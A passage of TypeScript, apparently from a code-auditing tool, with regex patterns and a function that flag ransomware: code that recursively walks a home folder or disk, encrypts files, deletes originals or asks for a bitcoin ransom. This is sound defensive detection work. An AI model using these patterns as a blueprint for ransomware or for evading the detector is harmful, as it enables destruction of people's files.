  /\bos\.walk\s*\(\s*(?:os\.path\.expanduser\(\s*["']~|["']\/["']|(?:pathlib\.)?Path\.home\(\)|os\.environ\[["']HOME)|\bfind\s+["']?(?:~|\$HOME|\/|\/home|\/Users)["']?\/?\s|\b(?:readdirSync|readdir|walk)\s*\(\s*(?:os\.homedir\(\)|homedir\(\)|process\.env\.HOME)|\bGet-ChildItem\b[^\n]{0,80}(?:\$HOME|\$env:USERPROFILE|~|C:\\)[^\n]{0,80}-Recurse|\bglob\([^\n)]{0,40}(?:~|expanduser|home)[^\n)]{0,40}\*\*/i;
const REMOVES_ORIGINAL =
  /\bos\.(?:remove|unlink)\s*\(|\.unlink\s*\(\)|\bunlinkSync\s*\(|\bshred\b|\bRemove-Item\b|\brm\s+(?:-f\s+)?["']?\$|\bransom|\bdecrypt\s+your\s+files\b|\bbitcoin\s+(?:address|wallet)\b/i;

/** Ransomware: files across the home folder (or the disk) encrypted, with the originals deleted or a ransom asked. */
export function ransomware(file: AuditText): TextHit[] {
  const enc = ENCRYPTS.exec(file.text);
  if (!enc || !WALKS_EVERYTHING.test(file.text) || !REMOVES_ORIGINAL.test(file.text)) return [];
  return [{ index: enc.index, length: enc[0].length }];
}
